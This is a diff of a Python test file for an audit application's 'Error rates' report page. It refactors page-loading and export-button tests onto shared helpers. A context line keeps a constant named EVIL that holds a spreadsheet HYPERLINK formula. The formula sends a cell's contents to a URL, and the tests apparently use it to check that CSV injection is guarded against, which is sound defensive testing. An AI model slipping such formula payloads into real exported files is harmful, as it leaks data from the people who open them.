@@ -10,7 +10,7 @@ import re
 import shutil
 import zipfile
 from collections.abc import Iterator
-from datetime import UTC, date, datetime
+from datetime import date
 from decimal import Decimal
 from html import unescape
 from pathlib import Path
@@ -20,21 +20,20 @@ import pandas as pd
 import pytest
 from pypdf import PdfReader
 from sqlalchemy import Engine, select
-from streamlit.testing.v1 import AppTest
 
 from audit import arrivals, audits, breakdowns, differences, exporting, results, sampling
-from audit.access import sessions
 from audit.errors import AccessError, InputError
 from audit.exporting.pseudonyms import Pseudonyms
 from audit.store import database, schema
 from audit.store.database import read
 from tests.handed_in import NPI, as_csv, claim, month
+from tests.page_runs import page_of, press
 from tests.reviewing import add_people, review_all
 from tests.stored import NOW
 
 pytest_plugins = ["tests.databases"]
 pytestmark = pytest.mark.xdist_group("exporting")  # one process: what the tests share takes seconds to make
-ROOT = Path(__file__).parents[1]
+RATES = "pages/reports/error_rates.py"
 SEED = "20261125090000000001"
 EVIL = '=HYPERLINK("http://127.0.0.1/?"&A1)'
 
@@ -248,24 +247,10 @@ def test_before_anything_is_drawn_or_reviewed(engine: Engine, people: dict[str, 
                 assert says in on_paper(content)
 
 
-def on_page(engine: Engine, people: dict[str, int], name: str, monkeypatch: pytest.MonkeyPatch) -> AppTest:
-    """The page Error rates as a person sees it."""
-    monkeypatch.setenv(database.VARIABLE, str(engine.url))
-    token = sessions.begin(engine, people[name], datetime.now(UTC))
-    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
-    app.user = {"session": sessions.sha256(token), "account": str(people[name])}
-    app.run()
-    app.switch_page("pages/reports/error_rates.py")
-    app.query_params["audit"] = "1"
-    app.run()
-    assert not app.exception
-    return app
-
-
 def test_tables_of_the_report_are_those_of_the_page(
     engine: Engine, audit_id: int, people: dict[str, int], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    app = on_page(engine, people, "max", monkeypatch)
+    app = page_of(engine, people["max"], RATES, monkeypatch, audit="1")
     shown = "\n".join(one.proto.body for one in app.get("html"))
     rows = {tuple(unescape(re.sub(r"<[^>]+>", "", cell)) for cell in re.findall(r"<td[^>]*>(.*?)</td>", row))
             for row in re.findall(r"<tr>(.*?)</tr>", shown)}  # fmt: skip
@@ -277,8 +262,7 @@ def test_tables_of_the_report_are_those_of_the_page(
         for cells in one.written():
             assert tuple(cells) in rows, f"{one.name} on the page"
             assert " ".join(cells) in paper, f"{one.name} on paper"
-    next(one for one in app.button if one.label == "Export").click().run()
-    assert not app.exception
+    press(app, "Export")
     assert len(app.get("download_button")) == 1
     assert [one.label for one in app.checkbox] == ["Name claims and patients by their ids"]
 
@@ -286,4 +270,4 @@ def test_tables_of_the_report_are_those_of_the_page(
 def test_who_may_not_export_sees_no_button(
     engine: Engine, people: dict[str, int], monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    assert "Export" not in {one.label for one in on_page(engine, people, "rita", monkeypatch).button}
+    assert "Export" not in {one.label for one in page_of(engine, people["rita"], RATES, monkeypatch).button}
